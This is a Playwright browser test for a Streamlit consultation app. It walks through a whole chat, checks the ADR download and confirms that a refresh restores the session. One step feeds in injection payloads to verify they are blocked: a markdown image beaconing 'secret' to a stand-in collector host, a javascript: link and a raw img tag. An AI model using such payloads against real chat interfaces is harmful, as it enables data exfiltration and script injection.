"""A real `streamlit run` driven by Debian Chromium: a whole consultation, the ADR download, a refresh."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[1]
CHROMIUM = Path("/usr/bin/chromium")
SCREENSHOT = ROOT / "evals" / "reports" / "ui-screenshot.png"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-dev-shm-usage"]
OPENING = ("We want a support assistant that answers questions from our help center docs, for customers on "
           "our $49/month plan")
CONSULTATION = [
    ("Policies change every week", "RAG · "),
    ("About 20,000 queries a day, and answers within 2 seconds are fine", "600,000 queries/month"),
]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture
def server(tmp_path: Path) -> Iterator[str]:
    """`streamlit run ui/app.py` on a free loopback port, with its own data dir; stopped afterwards."""
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "CONSULTANT_"))}
    env["CONSULTANT_DATA_DIR"] = str(tmp_path / "data")
    log = (tmp_path / "streamlit.log").open("w")
    # cwd is the temp dir so a developer's .env (an LLM key) cannot switch the test onto the LLM path.
    proc = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", str(ROOT / "ui" / "app.py"), "--server.headless", "true",
         "--server.address", "127.0.0.1", "--server.port", str(port), "--browser.gatherUsageStats", "false",
         "--server.fileWatcherType", "none"],
        cwd=tmp_path, env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                with urllib.request.urlopen(f"{url}/_stcore/health", timeout=1) as response:
                    if response.status == 200:
                        break
            except OSError:
                pass
            if proc.poll() is not None or time.monotonic() > deadline:
                pytest.fail(f"streamlit did not start:\n{(tmp_path / 'streamlit.log').read_text()}")
            time.sleep(0.2)
        yield url
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        log.close()


@pytest.fixture
def page() -> Iterator[Page]:
    if not CHROMIUM.exists():
        pytest.skip("Debian chromium is not installed at /usr/bin/chromium (run `make browser`)")
    sync_api = pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")
    with sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
        try:
            context = browser.new_context(viewport={"width": 1440, "height": 1000}, accept_downloads=True)
            yield context.new_page()
        finally:
            browser.close()


def test_a_whole_consultation_in_a_real_browser(server: str, page: Page) -> None:
    from playwright.sync_api import expect

    page.set_default_timeout(20_000)
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(server)
    box = page.get_by_test_id("stChatInputTextArea")
    expect(box).to_be_visible(timeout=60_000)  # the first start builds the knowledge base
    messages = page.get_by_test_id("stChatMessage")
    expect(messages.first).to_contain_text("Tell me about the feature you're planning")
    assert "thread=ui-" in page.url

    box.fill(OPENING)
    box.press("Enter")
    expect(messages).to_have_count(3)
    expect(messages.last).to_contain_text("Is that right")  # the need read from the use case is confirmed
    page.get_by_role("button", name="Know more").click()  # a quick reply
    expect(messages).to_have_count(5)
    expect(messages.last).to_contain_text("How often does the knowledge")
    for text, reply in CONSULTATION:
        count = messages.count()
        box.fill(text)
        box.press("Enter")
        expect(messages).to_have_count(count + 2)
        expect(messages.last).to_contain_text(reply)
    expect(messages.nth(1)).to_contain_text("$49/month")  # a budget stays text, not LaTeX
    assert page.locator(".katex").count() == 0
    assert page.get_by_test_id("stException").count() == 0  # no traceback anywhere
    card = page.get_by_text("Decision: rag")
    expect(card).to_be_visible()

    with page.expect_download() as download:
        page.get_by_role("button", name="ADR (Markdown)").click()
    adr = Path(download.value.path()).read_text("utf-8")
    assert download.value.suggested_filename.startswith("adr-") and adr.splitlines()[0].endswith(": RAG")
    assert "## Options considered" in adr and "## Decision" in adr and "weekly" in adr

    # Markup in a message never loads anything: no remote image, no script link, no raw HTML.
    count = messages.count()
    box.fill("our logo ![logo](https://collector.invalid/l.png?q=secret) see [docs](javascript:alert(1)) "
             "<img src=https://collector.invalid/b.png>")
    box.press("Enter")
    expect(messages).to_have_count(count + 2)
    expect(messages.nth(count)).to_contain_text("![logo](https://collector.invalid/l.png?q=secret)")
    assert page.locator("img[src*='collector']").count() == 0
    assert page.locator("a[href^='javascript']").count() == 0
    outside = [u for u in requested if not u.startswith((server, "data:", "blob:"))]
    assert not outside, f"the page requested non-loopback URLs: {outside[:5]}"

    url = page.url
    page.reload()  # a refresh is a new session: the chat comes back from the checkpointer
    expect(messages).to_have_count(1 + 2 * (len(CONSULTATION) + 3))
    expect(messages.nth(2 * len(CONSULTATION) + 4)).to_contain_text("600,000 queries/month")
    assert page.url == url

    page.get_by_text("Decision: rag").wait_for()
    # Streamlit scrolls inside its own container: grow the viewport to it so the screenshot shows the whole app.
    height = page.get_by_test_id("stAppScrollToBottomContainer").evaluate("e => e.scrollHeight")
    page.set_viewport_size({"width": 1440, "height": min(int(height) + 40, 8000)})
    page.wait_for_timeout(1000)  # charts re-lay out at the new size
    SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOT), full_page=True)
    assert SCREENSHOT.stat().st_size > 10_000
